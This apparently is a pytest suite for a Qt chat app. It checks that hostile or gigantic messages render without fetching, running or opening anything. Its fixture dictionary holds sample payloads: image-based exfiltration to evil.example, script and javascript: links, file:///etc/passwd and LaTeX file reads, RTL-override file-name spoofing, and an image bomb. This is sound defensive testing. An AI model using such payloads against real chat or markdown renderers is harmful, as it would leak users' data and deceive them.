"""Messages that mean harm, or are merely enormous: drawn within moments, and nothing is fetched, run or opened."""

import socket
import time
from pathlib import Path

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QDesktopServices, QTextDocument
from PySide6.QtWidgets import QApplication

from app.ui.chat.message_rows import MessageRow, RowAttachment, RowSource
from app.ui.shared.theme import Theme
from tests.ui.message_kit import answer, controls, question, settle, shown, visible_text

HOSTILE = {
    "html": "<h1>big</h1><img src='http://evil.example/a.png'><iframe src=http://evil.example></iframe>" * 50,
    "script": "<script>fetch('http://evil.example')</script>\n\n[x](javascript:alert(1)) [y](vbscript:x)",
    "pictures": "![a](http://evil.example/p.png?secret=1) ![b](data:image/png;base64,AAAA) ![c](file:///etc/passwd)",
    "styles": "<style>* { background: url(http://evil.example) }</style>\n\n<div style='position:fixed'>x</div>",
    "entities": "&lt;img src=http://evil.example/x&gt; &#x202e; &#0; &nbsp;" * 20,
    "bidi": "\u202egnp.exe\u202c \u2066 \u2067 \u2068 text \u2069 abc" * 30,
    "zalgo": "z" + "\u0300\u0301\u0302\u0303\u0304" * 400 + " text",
    "one line of 2 MB": "word " * 400_000,
    "one word of 2 MB": "x" * 2_000_000,
    "10,000 rows": "| a | b | c |\n|---|--:|:-:|\n" + "| cell | 3.14 | **x** |\n" * 10_000,
    "a fence without end": "```python\n" + "x = 'unclosed\n" * 20_000,
    "300 nested quotes": "> " * 300 + "deep\n" + ">" * 300 + "deeper",
    "300 nested lists": "".join("  " * depth + "- item\n" for depth in range(300)),
    "open brackets": "[" * 20_000 + "(" * 20_000,
    "stars": "*" * 20_000 + "a" + "**" * 5_000,
    "back ticks": "`" * 9_999 + " a " + "``` `` `" * 3_000,
    "table bars": "|" * 20_000 + "\n" + "|-" * 10_000 + "|\n" + "| x " * 5_000,
    "half markers": "[REF]" * 5_000 + "^1" * 5_000 + "[REF]99999999999[/REF]",
    "null and controls": "".join(chr(number) for number in range(32)) * 50 + "\ufffe\uffff\ufdd0",
    "lone surrogates": "broken \ud800 text \udfff here",
    "dollars": "$" * 20_000 + " $a$ " * 200,
    "formulas without end": "$$\n" + "\\frac{a}{" * 5_000 + "\n\n" + "\\[" * 5_000,
    "formulas that grow": "$" + "\\sqrt{" * 300 + "x" + "}" * 300 + "$ $" + "x^{" * 900 + "}" * 900 + "$",
    "formulas that reach out": "$\\href{http://evil.example}{x}$ $\\includegraphics{/etc/passwd}$ $\\input{/a}$",
    "carried pages": "![a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml;base64,PHN2Zy8+)"
    " [c](data:text/html,<script>alert(1)</script>)",
    "a carried picture of 2 MB": "![a](data:image/png;base64," + "A" * 2_000_000 + ")",
    "a carried bomb": "![a](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAnEAAAJxACAYAAAA=)",
    "carried pictures": "![a](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7) " * 400,
    "stand-ins of pictures": "![a](data-picture:0) ![b](data-picture:99999) `data-picture:0` data:image/png;base64,",
    "exfiltration": "![](https://evil.example/?q=secret) [![x](//evil.example/p)](http://evil.example) <https://evil.example>"
    "\n\n[r]: https://evil.example/ref\n\n![pixel][r]",
}  # fmt: skip


@pytest.fixture
def theme(qapp: QApplication) -> Theme:
    return Theme()


@pytest.fixture(autouse=True)
def _nothing_leaves(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> object:
        raise AssertionError(f"something was to be fetched or opened: {args}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(QDesktopServices, "openUrl", refuse)
    monkeypatch.setattr(QTextDocument, "loadResource", refuse)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_message_is_drawn_and_reaches_nothing(theme: Theme, name: str) -> None:
    view = shown(theme, [question("Show me"), answer(HOSTILE[name], citations=True)])
    settle(view)
    view.grab()
    view.scroll_to_start()
    settle(view)
    view.grab()
    for _ in range(5):
        view.scroll_px(700)
        settle(view)
    view.grab()
    for _, control, _ in controls(view):
        if control.action[0] == "link":
            assert QUrl(control.action[1]).scheme() in ("http", "https", "mailto")


@pytest.mark.parametrize(
    "name",
    [
        *("one line of 2 MB", "10,000 rows", "a fence without end", "300 nested quotes", "stars"),
        *("dollars", "formulas without end", "a carried picture of 2 MB"),
    ],
)
def test_a_hostile_message_streams_without_holding_the_window_up(theme: Theme, name: str) -> None:
    view = shown(theme, [answer(state="streaming", citations=True)])
    text = HOSTILE[name][:200_000]
    slowest = 0.0
    for at in range(0, len(text), 20_000):
        view.append_text("a", text[at : at + 20_000])
        for _ in range(6):
            begun = time.perf_counter()
            view.stream.flush()
            slowest = max(slowest, time.perf_counter() - begun)
            QApplication.processEvents()
    assert slowest < 0.25  # many times a frame: what a busy test machine may take, not what a person would see


def test_the_same_text_from_a_person_is_shown_as_typed(theme: Theme) -> None:
    text = "<b>not bold</b> **not bold either** ![x](http://evil.example/p.png)"
    view = shown(theme, [question(text)])
    assert visible_text(view) == text
    for name in ("one line of 2 MB", "null and controls", "lone surrogates", "zalgo"):
        shown(theme, [question(HOSTILE[name])]).grab()


def test_sources_and_names_are_text_too(theme: Theme) -> None:
    evil = RowSource("<img src=http://evil.example/t.png>", "http://[broken", "<b>snippet</b>")
    view = shown(theme, [answer("Fact.[REF]0[/REF]", citations=True, sources=(evil,))])
    view.grab()
    assert evil.host == ""


def test_what_was_attached_is_text_too_and_its_bytes_are_not_believed(theme: Theme, tmp_path: Path) -> None:
    fake = tmp_path / "picture"
    fake.write_bytes(b"<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.example/x'/></svg>")
    name = "<img src=http://evil.example/t.png>\u202egnp.exe"
    attached = (
        RowAttachment("image", name, "1 KB", str(fake), 640, 480),
        RowAttachment("pdf", "x" * 500, "1 KB", ""),
    )
    view = shown(theme, [MessageRow("q", "user", "look", attachments=attached)])
    for _ in range(3):
        settle(view)
        view.grab()
    files = [control for _, control, _ in controls(view) if control.id.startswith("file")]
    assert [file.action for file in files] == [("attachment", "0"), ("none",)], "what is not here cannot be pressed"
    assert files[0].name == f"Picture {name}, 1 KB"
